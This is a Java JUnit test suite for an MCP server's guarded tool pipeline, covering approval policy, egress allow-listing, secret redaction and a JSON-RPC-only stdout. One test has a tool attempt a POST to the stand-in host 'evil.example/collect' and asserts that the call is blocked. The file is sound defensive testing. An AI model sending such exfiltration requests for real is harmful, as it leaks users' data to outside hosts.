package dev.ironclaw4j.server.cli;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import io.modelcontextprotocol.client.McpClient;
import io.modelcontextprotocol.client.McpSyncClient;
import io.modelcontextprotocol.client.transport.ServerParameters;
import io.modelcontextprotocol.client.transport.StdioClientTransport;
import io.modelcontextprotocol.json.jackson3.JacksonMcpJsonMapper;
import io.modelcontextprotocol.spec.McpSchema;
import java.io.BufferedReader;
import java.io.InputStreamReader;
import java.io.OutputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.time.Duration;
import java.util.ArrayList;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.concurrent.CopyOnWriteArrayList;
import java.util.concurrent.TimeUnit;
import java.util.stream.Collectors;
import dev.ironclaw4j.server.testing.EchoingApi;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import tools.jackson.databind.json.JsonMapper;

/**
 * {@code ironclaw4j mcp} as a real child process, driven over stdio by the MCP Java SDK's client: the
 * tools are listed, calls go through the guarded pipeline (approval policy on channel mcp, egress, leak
 * redaction, fencing), and stdout carries nothing but JSON-RPC.
 */
class McpProcessTest {
  @TempDir Path tmp;
  EchoingApi api;
  int port;
  List<String> received;
  final List<String> stderr = new CopyOnWriteArrayList<>();

  @BeforeEach
  void start() throws Exception {
    api = new EchoingApi();
    port = api.port();
    received = api.received;
  }

  @AfterEach
  void stop() throws Exception {
    api.close();
  }

  /** {@code ironclaw4j mcp} as a child process spoken to in raw JSON-RPC lines (stderr discarded). */
  Process rawMcp() throws java.io.IOException {
    String java = ProcessHandle.current().info().command().orElse("java");
    ProcessBuilder pb = new ProcessBuilder(java, "-cp", System.getProperty("java.class.path"), "dev.ironclaw4j.server.cli.Main",
        "--home", home().toString(), "mcp");
    pb.environment().keySet().removeIf(k -> k.startsWith("IRONCLAW4J_"));
    pb.environment().putAll(env(false));
    pb.redirectError(ProcessBuilder.Redirect.DISCARD);
    return pb.start();
  }

  Path home() {
    return tmp.resolve("home");
  }

  Map<String, String> env(boolean allowHttp) {
    Map<String, String> env = new HashMap<>();
    env.put("IRONCLAW4J_EGRESS_ALLOW", "[\"http://127.0.0.1:" + port + "/api allow-private\"]");
    env.put("IRONCLAW4J_VAULT_PASSPHRASE", ToolCliTest.PASS);
    if (allowHttp) {
      env.put("IRONCLAW4J_TOOLS_APPROVAL", "[\"mcp:http_request=allow\"]");
    }
    return env;
  }

  McpSyncClient client(Map<String, String> env) {
    String java = ProcessHandle.current().info().command().orElse("java");
    ServerParameters params = ServerParameters.builder(java)
        .args("-cp", System.getProperty("java.class.path"), "dev.ironclaw4j.server.cli.Main", "--home", home().toString(), "mcp")
        .env(env)
        .build();
    StdioClientTransport transport = new StdioClientTransport(params, new JacksonMcpJsonMapper(JsonMapper.builder().build()));
    transport.setStdErrorHandler(stderr::add);
    McpSyncClient client = McpClient.sync(transport)
        .clientInfo(McpSchema.Implementation.builder("ironclaw4j-test", "1.0").build())
        .requestTimeout(Duration.ofSeconds(60))
        .initializationTimeout(Duration.ofSeconds(60))
        .build();
    client.initialize();
    return client;
  }

  static String text(McpSchema.CallToolResult r) {
    return r.content().stream().map(c -> c instanceof McpSchema.TextContent t ? t.text() : String.valueOf(c))
        .collect(Collectors.joining("\n"));
  }

  McpSchema.CallToolResult call(McpSyncClient c, String tool, Map<String, Object> args) {
    return c.callTool(McpSchema.CallToolRequest.builder(tool).arguments(args).build());
  }

  @Test
  void listsToolsAndEchoIsFenced() {
    try (McpSyncClient c = client(env(false))) {
      List<String> names = c.listTools().tools().stream().map(McpSchema.Tool::name).toList();
      assertTrue(names.containsAll(List.of("echo", "time", "http_request", "secret_list")), names.toString());
      McpSchema.Tool http = c.listTools().tools().stream().filter(t -> t.name().equals("http_request")).findFirst().orElseThrow();
      assertTrue(String.valueOf(http.inputSchema().get("properties")).contains("url"), "the ToolSpec's JSON Schema is served: " + http.inputSchema());
      assertFalse(http.description().isBlank());

      McpSchema.CallToolResult r = call(c, "echo", Map.of("text", "hi over mcp"));
      assertFalse(Boolean.TRUE.equals(r.isError()), text(r));
      assertTrue(text(r).contains("hi over mcp") && text(r).contains("UNTRUSTED-CONTENT"), text(r));

      McpSchema.CallToolResult bad = call(c, "echo", Map.of("nope", 1));
      assertTrue(bad.isError(), text(bad));
      assertTrue(text(bad).startsWith("invalid-input: "), text(bad));
      assertFalse(text(bad).contains("\n") || text(bad).contains("at dev.ironclaw4j"), "one line, no stack trace: " + text(bad));
    }
  }

  @Test
  void httpRequestWithoutApprovalRuleIsRefusedWithTheHint() {
    try (McpSyncClient c = client(env(false))) {
      McpSchema.CallToolResult r = call(c, "http_request", Map.of("url", "http://127.0.0.1:" + port + "/api/x", "method", "GET"));
      assertTrue(r.isError(), text(r));
      assertTrue(text(r).startsWith("approval-required: "), text(r));
      assertTrue(text(r).contains("mcp:http_request=allow") && text(r).contains("tools.approval"), text(r));
      assertEquals(0, received.size(), "a refused call sends nothing");
    }
  }

  @Test
  void httpRequestAllowedByPolicyReachesTheServerAndDisallowedHostIsDenied() {
    try (McpSyncClient c = client(env(true))) {
      McpSchema.CallToolResult ok = call(c, "http_request", Map.of("url", "http://127.0.0.1:" + port + "/api/x", "method", "GET"));
      assertFalse(Boolean.TRUE.equals(ok.isError()), text(ok));
      assertTrue(text(ok).contains("hello from the api"), text(ok));
      assertEquals(1, received.size());

      McpSchema.CallToolResult path = call(c, "http_request", Map.of("url", "http://127.0.0.1:" + port + "/admin", "method", "GET"));
      assertTrue(path.isError(), text(path));
      McpSchema.CallToolResult host = call(c, "http_request", Map.of("url", "https://evil.example/collect", "method", "POST"));
      assertTrue(host.isError(), text(host));
      assertFalse(text(host).contains("\tat ") || text(host).contains("Exception"), "no stack trace: " + text(host));
      assertEquals(1, received.size(), "nothing reached the server after the allowed call");
    }
  }

  @Test
  void resultContainingVaultValueIsRedacted() {
    CliRunner cli = new CliRunner(home());
    assertEquals(0, cli.run(env(false), "", "vault", "init").code());
    String value = "sk-" + "McpSecretValue" + System.nanoTime();
    CliRunner.Result set = cli.run(env(false), value, "secret", "set", "API_KEY", "--bind", "http://127.0.0.1:" + port + "/api GET",
        "--inject", "bearer");
    assertEquals(0, set.code(), set.all());

    try (McpSyncClient c = client(env(true))) {
      McpSchema.CallToolResult r = call(c, "http_request", Map.of("url", "http://127.0.0.1:" + port + "/api/me", "method", "GET",
          "headers", Map.of("Authorization", "Bearer {{secret:API_KEY}}")));
      assertFalse(Boolean.TRUE.equals(r.isError()), text(r));
      assertEquals(List.of("GET /api/me auth=Bearer " + value), received, "the bound server got the credential");
      assertFalse(r.toString().contains(value), "the echoed value never reaches the MCP client: " + r);
      assertTrue(text(r).contains("[REDACTED"), text(r));

      McpSchema.CallToolResult names = call(c, "secret_list", Map.of());
      assertFalse(names.toString().contains(value), names.toString());
    }
    assertFalse(String.join("\n", stderr).contains(value), "nor the server's stderr");
  }

  @Test
  void stdoutCarriesOnlyJsonRpc() throws Exception {
    Process p = rawMcp();
    try {
      OutputStream in = p.getOutputStream();
      {
        String[] requests = {
          "{\"jsonrpc\":\"2.0\",\"id\":1,\"method\":\"initialize\",\"params\":{\"protocolVersion\":\"2025-06-18\","
              + "\"capabilities\":{},\"clientInfo\":{\"name\":\"raw\",\"version\":\"1\"}}}",
          "{\"jsonrpc\":\"2.0\",\"method\":\"notifications/initialized\"}",
          "{\"jsonrpc\":\"2.0\",\"id\":2,\"method\":\"tools/list\"}",
          "{\"jsonrpc\":\"2.0\",\"id\":3,\"method\":\"tools/call\",\"params\":{\"name\":\"echo\",\"arguments\":{\"text\":\"x\"}}}",
          "{\"jsonrpc\":\"2.0\",\"id\":4,\"method\":\"tools/call\",\"params\":{\"name\":\"http_request\",\"arguments\":{\"url\":\"http://127.0.0.1:1/api\",\"method\":\"GET\"}}}",
        };
        BufferedReader r = new BufferedReader(new InputStreamReader(p.getInputStream(), StandardCharsets.UTF_8));
        List<String> lines = new ArrayList<>();
        JsonMapper m = JsonMapper.builder().build();
        for (String req : requests) {
          in.write((req + "\n").getBytes(StandardCharsets.UTF_8));
          in.flush();
          if (req.contains("\"id\"")) {
            String line = r.readLine();
            assertTrue(line != null, "a response to " + req + " after " + lines);
            lines.add(line);
          }
        }
        in.close();
        String rest;
        while ((rest = r.readLine()) != null) {
          lines.add(rest);
        }
        assertEquals(4, lines.stream().filter(l -> l.contains("\"id\"")).count(), lines.toString());
        for (String line : lines) {
          var node = m.readTree(line);
          assertEquals("2.0", node.path("jsonrpc").asString(), "not JSON-RPC on stdout: " + line);
        }
        assertTrue(lines.get(3).contains("\"isError\":true") && lines.get(3).contains("mcp:http_request=allow"), lines.get(3));
      }
      assertTrue(p.waitFor(30, TimeUnit.SECONDS), "the server exits when stdin closes");
      assertEquals(0, p.exitValue());
    } finally {
      p.destroyForcibly();
    }
  }

  @Test
  void oversizedMessageIsDroppedAndTheSessionGoesOn() throws Exception {
    Process p = rawMcp();
    try {
      OutputStream in = p.getOutputStream();
      BufferedReader r = new BufferedReader(new InputStreamReader(p.getInputStream(), StandardCharsets.UTF_8));
      in.write(("{\"jsonrpc\":\"2.0\",\"id\":1,\"method\":\"initialize\",\"params\":{\"protocolVersion\":\"2025-06-18\","
          + "\"capabilities\":{},\"clientInfo\":{\"name\":\"raw\",\"version\":\"1\"}}}\n"
          + "{\"jsonrpc\":\"2.0\",\"method\":\"notifications/initialized\"}\n").getBytes(StandardCharsets.UTF_8));
      in.flush();
      assertTrue(r.readLine().contains("\"id\":1"));
      String big = "{\"jsonrpc\":\"2.0\",\"id\":2,\"method\":\"tools/call\",\"params\":{\"name\":\"echo\",\"arguments\":{\"text\":\""
          + "a".repeat(dev.ironclaw4j.mcp.GuardedMcpServer.MAX_MESSAGE_BYTES) + "\"}}}\n";
      in.write(big.getBytes(StandardCharsets.UTF_8));
      in.write("{\"jsonrpc\":\"2.0\",\"id\":3,\"method\":\"tools/call\",\"params\":{\"name\":\"echo\",\"arguments\":{\"text\":\"after\"}}}\n"
          .getBytes(StandardCharsets.UTF_8));
      in.flush();
      String next = r.readLine();
      assertTrue(next != null && next.contains("\"id\":3") && next.contains("after"), "the oversized line was dropped, the next served: " + next);
      in.close();
      assertTrue(p.waitFor(30, TimeUnit.SECONDS), "the server exits when stdin closes");
      assertEquals(0, p.exitValue());
    } finally {
      p.destroyForcibly();
    }
  }

  @Test
  void requestsWrittenBeforeStdinClosesAreStillAnswered() throws Exception {
    Process p = rawMcp();
    try {
      try (OutputStream in = p.getOutputStream()) {
        in.write(("{\"jsonrpc\":\"2.0\",\"id\":1,\"method\":\"initialize\",\"params\":{\"protocolVersion\":\"2025-06-18\","
            + "\"capabilities\":{},\"clientInfo\":{\"name\":\"raw\",\"version\":\"1\"}}}\n"
            + "{\"jsonrpc\":\"2.0\",\"method\":\"notifications/initialized\"}\n"
            + "{\"jsonrpc\":\"2.0\",\"id\":2,\"method\":\"tools/call\",\"params\":{\"name\":\"echo\",\"arguments\":{\"text\":\"last words\"}}}\n")
            .getBytes(StandardCharsets.UTF_8));
      }
      String out = new String(p.getInputStream().readAllBytes(), StandardCharsets.UTF_8);
      assertTrue(p.waitFor(30, TimeUnit.SECONDS));
      assertEquals(0, p.exitValue());
      assertTrue(out.contains("\"id\":1") && out.contains("\"id\":2") && out.contains("last words"), out);
    } finally {
      p.destroyForcibly();
    }
  }
}
